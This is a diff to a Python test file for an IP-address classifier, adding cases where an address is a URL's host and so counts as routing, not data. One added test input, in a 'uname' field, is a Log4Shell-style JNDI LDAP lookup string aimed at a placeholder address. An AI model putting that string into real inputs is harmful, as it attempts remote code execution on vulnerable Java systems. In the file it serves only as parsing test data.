@@ -21,7 +21,8 @@ POSITIVES = [
     ("::ffff:192.0.2.128", "peer", 0.7),
     ("login from 198.51.100.23 failed", "message", 0.7),
     ("10.20.30.40:8080", "upstream", 0.7),
-    ("http://10.20.30.40/health", "url", 0.7),
+    # An address inside a URL but not its host is data (a client carried as a parameter).
+    ("http://svc.internal/health?client=10.20.30.40", "url", 0.7),
     ("172.16.5.4, 10.0.0.1", "x-forwarded-for", 0.7),
 ]
 
@@ -110,3 +111,14 @@ def test_versions_shaped_like_addresses_stay_under_the_threshold() -> None:
                          sibling_tokens=frozenset({"version", "upper", "lower"}))
     found = _Clf().score("13.3.104.23", near_versions)
     assert found is None or found.confidence < _T
+
+
+@pytest.mark.parametrize(("value", "path"), [
+    ("http://10.20.30.40/health", "url"),
+    ("http://192.168.56.101:8080", "origin"),
+    ("https://user@198.51.100.7/login", "referer"),
+    ("see http://[2001:db8::5]:8080/x for the log", "message"),
+    ("${jndi:ldap://203.0.113.50:1389/a}", "uname"),
+])
+def test_the_host_of_a_url_is_routing_not_data(value: str, path: str) -> None:
+    assert_not_reported(CLF.score(value, ctx(path)))
